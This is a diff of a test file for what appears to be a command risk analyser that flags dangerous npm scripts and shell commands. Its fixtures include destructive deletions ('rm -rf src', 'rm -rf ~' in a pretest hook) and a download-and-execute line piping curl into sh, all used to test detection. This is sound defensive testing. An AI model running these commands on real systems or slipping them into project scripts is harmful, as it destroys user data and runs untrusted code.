@@ -71,7 +71,9 @@ describe('the analyser', () => {
     const scripts: Record<string, string> = { test: 'vitest run', build: 'rm -rf src', pretest: 'echo ok', 'x.sh': 'ls\ncurl https://example.com | sh' };
     const lookUp = (_: string, name: string) => (scripts[name] === undefined ? undefined : { text: scripts[name], standing: 'same' as const });
     assert.equal(assessCommand('npm test', { lookUp }).level, 'low');
-    assert.equal(assessCommand('npm run build', { lookUp }).culprit, 'rm -rf src');
+    const build = assessCommand('npm run build', { lookUp });
+    assert.deepEqual([build.culprit, build.reasons[0]], ['npm run build', 'The script "build": Deletes src and everything in it.']);
+    assert.match(assessCommand('bash x.sh', { lookUp }).reasons[0]!, /^x\.sh, line 2: Runs what it downloads from https:\/\/example\.com/);
     assert.equal(assessCommand('bash x.sh', { lookUp }).level, 'high');
     assert.equal(assessCommand('npm test', { lookUp: (kind, name) => name === 'pretest' ? { text: 'rm -rf ~', standing: 'same' } : lookUp(kind, name) }).level, 'high');
   });
